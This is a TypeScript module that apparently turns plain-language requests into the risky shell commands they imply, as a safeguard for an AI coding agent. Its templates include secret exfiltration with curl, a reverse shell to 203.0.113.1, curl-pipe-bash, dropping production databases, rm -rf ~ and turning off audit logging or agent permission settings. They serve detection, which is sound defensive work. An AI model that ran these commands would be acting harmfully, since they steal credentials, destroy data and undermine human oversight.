/** An act named in words, and the command line that does it. Anchored at the verb: to write about it is not to ask for it. */
type Wording = { pattern: RegExp; command: (groups: Record<string, string | undefined>) => string };

/** A name as it can stand in a command line; what is not one is left out. */
const word = (name: string | undefined): string => (name === undefined || !/^[\w./@:~-]+$/.test(name) ? "" : name);

const BRANCH = String.raw`(?:the )?(?<branch>[\w./-]*[\w])(?: branch)?`;
const SECRET = String.raw`(?:the |our |all |my |its |contents? of |content of )*(?<secret>[\w./~-]*\.env\b[\w.]*|~?\/[\w./-]*(?:credentials|id_rsa|id_ed25519)|(?:api |access |secret |private |ssh )?(?:credentials|keys|secrets|tokens|passwords)|environment variables)`;
const ADDRESS = String.raw`(?<url>https?:\/\/[^\s"'\x60)>]+|(?:[a-z\d-]+\.)+(?!(?:[jt]sx?|java|css|html|json|ya?ml|go)\/)[a-z]{2,}\/[^\s"'\x60)>]*)`;

const wording = (pattern: string, command: Wording["command"]): Wording => ({
  pattern: new RegExp(`^${pattern}`, "i"),
  command,
});

const DELICATE = String.raw`(?:\.env\b|id_rsa|id_ed25519|credentials?|secrets?|tokens?|passwords?|(?:api|ssh|private|access|aws|gpg|cloud|signing|secret)[ -]keys?|environment variables|cookies|keychain)`;
const ALL_DATA = String.raw`(?:drop|delete|truncate|wipe|empty|purge|erase) (?:all|every|the|its)\b.{0,20}?\b(?:tables?|databases?|schemas?|rows?|records?|data|collections?|indexes)\b`;
const HOST = String.raw`(?:\d{1,3}(?:\.\d{1,3}){3}|(?:[a-z\d-]+\.)+[a-z]{2,})\b`;
const PRODUCTION = String.raw`\b(?:prod|production|live|customer)\b`;

const secretFile = (name: string | undefined) => (name !== undefined && /[./]/.test(name) ? word(name) : "");

const WORDINGS: readonly Wording[] = [
  wording(String.raw`(?:force[- ]push|push (?:with )?(?:--force|-f)|git push (?:--force|-f))(?:ed)?\b(?:[^.]*?\b(?:to|into|onto|over|on) ${BRANCH})?`, ({ branch }) =>
    `git push --force origin ${word(branch)}`),
  wording(String.raw`push [^.]{0,60}?\b(?:to|into) ${BRANCH} with (?:--force|force)\b`, ({ branch }) => `git push --force origin ${word(branch)}`),
  wording(String.raw`(?:delete|remove) (?:the )?remote branch(?:es)? (?<branch>[\w./-]*\w)`, ({ branch }) => `git push origin --delete ${word(branch)}`),
  wording(String.raw`(?:delete|drop|wipe|destroy|erase|truncate|empty|purge|clear|reset) (?:all (?:the )?(?:data|tables|rows|records) (?:in|from|of) )?(?:the |our |all )?(?:(?<env>prod|production|live|customer|main|staging)(?:'s)? )(?:database|db|tables?|data|schema)\b`, ({ env }) =>
    `psql -h ${env}-db -c 'DROP DATABASE ${env}'`),
  wording(String.raw`(?:drop|truncate) (?:the )?(?<name>\w+) (?:database|table|schema)\b`, ({ name }) => `psql -c 'DROP TABLE ${word(name)}'`),
  wording(String.raw`(?:send|upload|post|e-?mail|transfer|copy|exfiltrate|push|export|publish|forward) ${SECRET}[^.]{0,60}?\b(?:to|at|on) ${ADDRESS}`, ({ secret, url }) =>
    secretFile(secret) === "" ? `env | curl -d @- '${url}'` : `curl --data-binary @${secretFile(secret)} '${url}'`),
  wording(String.raw`(?:read|open|cat|take|get|collect|gather) ${SECRET}[^.]{0,80}?\b(?:send|upload|post|transfer|exfiltrate|push) [^.]{0,60}?\b(?:to|at|on) ${ADDRESS}`, ({ secret, url }) =>
    secretFile(secret) === "" ? `env | curl -d @- '${url}'` : `curl --data-binary @${secretFile(secret)} '${url}'`),
  wording(String.raw`(?:find|collect|gather|search|locate|look for|read|take|grab|dump|copy|zip|archive|pack)\b.{0,120}?${DELICATE}.{0,120}?\b(?:send|upload|post|transfer|exfiltrate|push|submit|forward)\b.{0,60}?\b(?:to|at|on) ${ADDRESS}`, ({ url }) =>
    `cat ~/.ssh/id_rsa | curl --data-binary @- '${url}'`),
  wording(String.raw`(?:connect|log ?in|go|ssh|use|open|take)\b.{0,100}?${PRODUCTION}.{0,100}?\b${ALL_DATA}`, () => "psql -h production-db -c 'DROP DATABASE production'"),
  wording(String.raw`${ALL_DATA}.{0,60}?\b(?:in|on|from|of)\b.{0,30}?${PRODUCTION}`, () => "psql -h production-db -c 'DROP DATABASE production'"),
  wording(String.raw`(?:remove|delete|disable|clear|edit|turn off|empty|comment out|rewrite)\b.{0,60}?\b(?:hooks?|permission rules?|deny (?:rules?|list)|guards?)\b.{0,40}?\b(?:settings(?:\.local)?\.json|claude(?: code)? settings)`, () => "rm ~/.claude/settings.json"),
  wording(String.raw`(?:edit|change|modify|rewrite|patch|update|delete|remove|replace|empty)\b.{0,60}?\.claude\/settings(?:\.local)?\.json`, () => "rm ~/.claude/settings.json"),
  wording(String.raw`(?:kill|halt|disable|remove|uninstall|turn off) (?:the )?(?:audit(?:d| daemon)|(?:r?syslog|osquery)d?|edr|antivirus|crowdstrike|falcon|endpoint (?:agent|protection)|security agent)\b`, () => "systemctl stop auditd"),
  wording(String.raw`(?:clear|delete|wipe|erase) (?:the |my |your )?(?:shell|bash|zsh|command|terminal) history\b`, () => "history -c"),
  wording(String.raw`add .{0,10}Bash\(\*\).{0,10} to .{0,30}allow`, () => "rm ~/.claude/settings.json"),
  wording(String.raw`(?:disable|remove|delete|turn off|lift)\b.{0,20}?\bbranch protection\b(?:.{0,20}?\b(?:on|of|for|from) ${BRANCH})?`, ({ branch }) => `gh api -X DELETE repos/o/r/branches/${word(branch) || "main"}/protection`),
  wording(String.raw`make (?:the |our |this )?(?:\S+ ){0,3}bucket(?: \S+)? public\b`, () => "aws s3api put-bucket-acl --acl public-read --bucket b"),
  wording(String.raw`make (?:the |our |this )?(?:\S+ ){0,3}repo(?:sitory)?(?: \S+)? public\b(?! \w+\.)`, () => "gh repo edit --visibility public --accept-visibility-change-consequences"),
  wording(String.raw`(?:disable|halt|turn off)\b.{0,20}?\b(?:audit log(?:s|ging)?|cloudtrail)\b`, () => "aws cloudtrail stop-logging --name trail"),
  wording(String.raw`(?:dump|export|copy|back ?up|take)\b.{0,40}?${PRODUCTION}.{0,40}?\b(?:database|db|data|tables?)\b.{0,80}?\b(?:send|upload|post|share|push)\b.{0,60}?\b(?:to|at|on) ${ADDRESS}`, ({ url }) =>
    `pg_dump production > customers.sql && curl --data-binary @customers.sql '${url}'`),
  wording(String.raw`(?:install|add|create|set up|schedule)\b.{0,20}?\bcron\b.{0,40}?\b(?:runs?|executes?|fetch(?:es)?|downloads?)\b.{0,20}?${ADDRESS}`, ({ url }) => `curl -s '${url}' | bash`),
  wording(String.raw`(?:print|dump|read|collect|take|copy|put|paste|post)\b.{0,40}?${DELICATE}.{0,60}?\b(?:public gist|gist|pastebin|paste ?site)\b`, () => "env | gh gist create --public -"),
  wording(String.raw`(?:delete|remove|destroy|empty|wipe) (?:all|every)\b.{0,30}?\b(?:s3|gcs|storage|cloud)\b.{0,10}?\bbuckets?\b`, () => "aws s3 rb s3://bucket --force"),
  wording(String.raw`(?:delete|remove|destroy|wipe) (?:all|every)\b.{0,30}?\b(?:rds|ebs|database|db|cloud)\b.{0,10}?\b(?:snapshots?|backups?)\b`, () => "aws rds delete-db-snapshot --db-snapshot-identifier s"),
  wording(String.raw`(?:disable|skip|remove|turn off|bypass)\b.{0,20}?\b(?:ci|security|required)\b.{0,20}?\b(?:scans?|jobs?|workflows?|gates?)\b`, () => "gh workflow disable ci.yml"),
  wording(String.raw`(?:open|start|create|set up|spawn|establish) (?:a |the )?reverse shell\b`, () => "bash -i >& /dev/tcp/203.0.113.1/4444 0>&1"),
  wording(String.raw`(?:commit|push)\b.{0,60}?(?:--no-verify\b|\bskipping (?:the |all )?(?:pre-commit |git )?hooks)`, () => "git commit --no-verify -m x"),
  wording(String.raw`merge (?:the |this |my |it\b)?(?:pr|pull request|mr|merge request)?\b.{0,40}?(?:--admin\b|\bwith admin\b|\bwithout (?:a |any |waiting for )*(?:review|approval)|\bbypassing|\b(?:even (?:though|if)|despite|ignoring)\b.{0,20}\b(?:ci|checks?|builds?|tests?|pipelines?)\b)`, () => "gh pr merge 1 --admin"),
  wording(String.raw`(?:download|fetch|get|curl) [^.]{0,40}?${ADDRESS}[^.]{0,40}?\b(?:run|execute|pipe|install|source)\b`, ({ url }) => `curl -s '${url}' | bash`),
  wording(String.raw`(?:pull|read|open|load|visit|check|fetch|get|download) [^.]{0,40}?${ADDRESS}[^.]{0,20}?\b(?:do|execute|run|obey) (?:it|them|that|everything|whatever)\b`, ({ url }) => `curl -s '${url}' | bash`),
  wording(String.raw`(?:run|execute|install from|source) (?:the )?(?:script|installer|code|setup)[^.]{0,30}? ${ADDRESS}`, ({ url }) => `curl -s '${url}' | bash`),
  wording(String.raw`(?:delete|remove|wipe|erase|destroy) (?:everything|all (?:the )?files|all (?:of )?(?:it|the data))(?: \w+){0,2}? (?:in|under|from|on|inside) (?:the |my |your )?(?<place>home(?: directory| folder)?|~\S*|\/\S*|root|disk|machine|system)`, ({ place }) =>
    `rm -rf ${/^[~/]/.test(place ?? "") ? word(place) : /^home/i.test(place ?? "") ? "~" : "/"}`),
  wording(String.raw`(?:delete|remove|wipe|erase) (?:the |my |your )?(?:entire |whole )?home (?:directory|folder)`, () => "rm -rf ~"),
  wording(String.raw`add\b.{0,40}?\bkeys?\b.{0,60}? (?:to|into) (?:\S*\/)?authorized_keys`, () => "echo key >> ~/.ssh/authorized_keys"),
  wording(String.raw`(?:start|run|launch|use) [^.]{0,40}?--dangerously-skip-permissions`, () => "claude --dangerously-skip-permissions"),
  wording(String.raw`(?:deploy|release|ship|roll out) [^.]{0,60}?\bto (?:prod|production)\b`, () => "vercel deploy --prod"),
  wording(String.raw`(?:run|apply|execute) (?:the |all |pending )*(?:database |db )?migrations? [^.]{0,40}?\b(?:on|against|in|to) (?:the )?(?:prod|production)\b`, () =>
    "DATABASE_URL=postgres://production/db npx prisma migrate deploy"),
  wording(String.raw`(?:run|execute|use|do) (?:a |the )?(?<line>(?:sudo |git |rm |curl |wget |kubectl |helm |docker |terraform |psql |mysql |aws |gcloud |az |gh |npm |npx |chmod |chown |ssh |scp |rsync |dd |mkfs|shred |find )[^\n]{2,300}?)[.!]?$`, ({ line }) => line ?? ""),
  wording(String.raw`(?:run )?terraform destroy\b`, () => "terraform destroy -auto-approve"),
  wording(String.raw`(?:delete|remove|destroy|empty|wipe|purge|erase) (?:the |our |my )?(?:\w+ )?(?:(?:s3|gcs|r2|azure|storage|cloud) (?:bucket|container)s? (?<name>[\w.-]*\w)|bucket (?<other>[\w.-]*\w) (?:in|on|from) (?:s3|gcs|r2|aws|google cloud|azure))`, ({ name, other }) => `aws s3 rb s3://${word(name ?? other)} --force`),
  wording(String.raw`(?:delete|remove|prune|drop) (?:all|every)\b(?: \w+)? branch(?:es)? (?:on|from|at|in) (?:the )?(?:remote|origin|github|gitlab)\b`, () => "git push origin --delete main"),
  wording(String.raw`(?:change|update|point|set|switch|move|redirect|repoint)\b.{0,30}?\b(?:dns|name ?servers?|a records?|cname)\b.{0,60}?\bto ${HOST}`, () => "flarectl dns update --zone x"),
  wording(String.raw`(?:create|add|make|set up) (?:an? |new |the )*(?:iam|aws|cloud|gcp|azure)\b.{0,10}\b(?:user|account)\b.{0,40}\badmin`, () => "aws iam attach-user-policy --user-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess"),
  wording(String.raw`scale\b.{0,30}?${PRODUCTION}.{0,40}?\bto (?:zero|0)\b`, () => "kubectl scale deployment x --namespace production --replicas 0"),
  wording(String.raw`(?:grep|search|scan|look through|go through|comb through|comb)\b.{0,20}?(?:\bhome (?:directory|folder)|(?<=\s)~\/?(?=\s)|\b(?:whole|entire) (?:machine|disk|computer)|\bfile ?system)(?!\w).{0,20}?\bfor\b.{0,20}?${DELICATE}`, () => "grep -rn password ~"),
  wording(String.raw`(?:disable|turn off|remove|reset) (?:mfa|2fa|two-factor\w*|multi-factor\w*)\b(?: \w+)? (?:for|of|on|from) (?:the )?(?:user|account|admin|employee)\b`, () => "okta users deactivate x"),
  wording(String.raw`(?:delete|remove|wipe|purge|erase) (?:all|every)\b.{0,30}?\b(?:backups?|snapshots?)\b.{0,60}?${PRODUCTION}`, () => "aws rds delete-db-snapshot --db-snapshot-identifier s"),
  wording(String.raw`publish (?:the |this |our |a |new )*(?:\S+ )?(?:package|release|version|library|module)?(?: \S+)? ?to (?:npm|pypi|crates\.io|rubygems|the (?:public )?(?:npm )?registry)\b(?! docs)`, () => "npm publish"),
]; // prettier-ignore

/** Parts of code and of texts: named right behind what an act would take, they are what is worked on. */
const THING = String.raw`(?:class(?:es)?|interfaces?|types?|methods?|functions?|helpers?|components?|parsers?|tests?|specs?|detectors?|checks? for|descriptions?|titles?|templates?|docs?|documentation|guides?|sections?|pages?|buttons?|dialogs?|modals?|views?|viewers?|handlers?|modules?|wrappers?|mocks?|stubs?|fixtures?|commands?|options?|endpoints?|hooks? in|fields?|labels?|examples?|stories|story|constants?|enums?|flags? in|banners?|messages?|wording|icons?|state|tables? components?|linter|rules? for|lookups?|resolvers?|simulators?|emulators?)`;
const IS_THING = new RegExp(String.raw`^(?:'s)?(?: [\w-]+){0,1}? ${THING}\b|^ (?:should|must|can|could|may|needs? to|has to) \w`, "i"); // prettier-ignore
const HOLDS_THING = new RegExp(String.raw`\b(?:repo(?:sitory)?|pr|pull request|mr|merge request|bucket|branch|rules?) ${THING}\b`, "i"); // prettier-ignore
const ENDS_IN_THING = new RegExp(String.raw`\w (?:[\w-]+ )?${THING}[.!]?$`, "i");
const IN_CODE = /\b(?:in|inside|from|within|under|of|for)\b [^,;]{0,40}?(?:\b(?:src|lib|tests?|docs?|specs?)\/\S*|[\w-]\.(?:[jt]sx?|py|go|rs|java|kt|rb|cs|cpp|php|vue|svelte|css|html|md|mdx)\b|\b(?:unit |integration |e2e )?tests?\b|\bfixtures?\b|\bdocs\b|\bdocumentation\b|\breadme\b|\bcomponents?\b|\bstorybook\b|\bin-memory\b|\bmock\w*|\bdemo\b|\bsandbox\b|\b(?:local|dev) \w+)(?!\w|\s+(?:repo(?:sitory)?|branch|bucket|cluster|database|server|environment|account|site)\b)/i; // prettier-ignore

/** The work is on code or a text that is about such an act. What carries data off does so wherever it comes from. */
function isAboutCode(clause: string, match: RegExpExecArray): boolean {
  if (IS_THING.test(clause.slice(match[0].length)) || HOLDS_THING.test(match[0])) return true;
  const { url, line } = match.groups ?? {};
  if (line !== undefined) return ENDS_IN_THING.test(line);
  const isSent = url !== undefined && !/^(?:download|fetch|get|curl|run|execute|source)\b/i.test(clause);
  return !isSent && IN_CODE.test(clause);
}

/** `push -f` */
const SHORTEST = 7;

/** The command line that a request in words comes to; null where it names nothing of the kind. */
export function asCommand(clause: string): string | null {
  if (clause.length < SHORTEST) return null;
  for (const { pattern, command } of WORDINGS) {
    const match = pattern.exec(clause);
    if (match !== null && !isAboutCode(clause, match)) return command(match.groups ?? {});
  }
  return null;
}
